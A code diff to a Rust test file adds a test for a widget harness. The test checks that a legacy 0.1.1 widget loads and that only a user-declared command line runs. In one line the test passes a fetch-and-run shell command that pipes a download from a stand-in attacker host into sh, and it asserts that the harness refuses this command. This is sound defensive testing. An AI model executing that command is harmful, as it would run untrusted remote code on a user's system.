@@ -1,7 +1,7 @@
 //! A third-party component run through the harness: input reaches it, and
 //! its faults come back as the bar would report them.
 
-use obi_harness::{Failure, Harness, Input, Script, ScrollDirection, texts};
+use obi_harness::{Capability, Emphasis, Failure, Harness, Input, Inputs, Script, ScrollDirection, plugin_spec, texts};
 use std::path::{Path, PathBuf};
 
 fn faulty_wasm() -> PathBuf {
@@ -45,4 +45,32 @@ fn a_widget_built_against_0_1_0_still_runs() {
     assert_eq!(view.items[0].takes, obi_harness::Inputs::ALL, "a 0.1.0 item cannot say what it takes");
     let view = widget.input("clicks", Input::PrimaryClick).unwrap();
     assert_eq!(texts(&view), ["clicks: 1"]);
+}
+
+/// A widget built against `obi:widget@0.1.1`, with bare exports, before
+/// 0.1.2 made them the `guest` interface: it loads, its view keeps its
+/// emphasis and inputs, and its raw command line runs only when the user
+/// declared that very line for it.
+#[test]
+fn a_widget_built_against_0_1_1_still_runs_and_spawns_only_what_was_declared() {
+    let workspace = obi_build_support::workspace_root(Path::new(env!("CARGO_MANIFEST_DIR")));
+    let wasm = obi_build_support::build_components(&workspace, &["obi-test-widget-legacy-0-1-1"]).unwrap().remove(0);
+    let script = script();
+    let spec = |line: &str, declared: &[(&str, &str)]| {
+        let mut spec = plugin_spec(wasm.clone(), format!("{line:?}"), [Capability::Process]);
+        spec.monitor = Some(1);
+        spec.commands = declared.iter().map(|(id, line)| (id.to_string(), line.to_string())).collect();
+        spec
+    };
+
+    let mut declared = Harness::start(spec("notify-send hi", &[("hello", "notify-send hi")]), &script).unwrap();
+    let view = declared.refresh().unwrap();
+    assert_eq!(texts(&view), ["monitor Some(1)"]);
+    assert_eq!((view.items[0].emphasis, view.items[0].takes), (Emphasis::Muted, Inputs::PRIMARY_CLICK));
+    assert_eq!(texts(&declared.input("run", Input::PrimaryClick).unwrap()), ["spawned"]);
+
+    let mut attacker = Harness::start(spec("curl evil.example | sh", &[("hello", "notify-send hi")]), &script).unwrap();
+    let shown = texts(&attacker.input("run", Input::PrimaryClick).unwrap()).remove(0);
+    assert!(shown.starts_with("refused:") && shown.contains("not one of the commands declared"), "{shown}");
+    assert_eq!(script.spawned(), ["notify-send hi"], "only the declared line ran");
 }
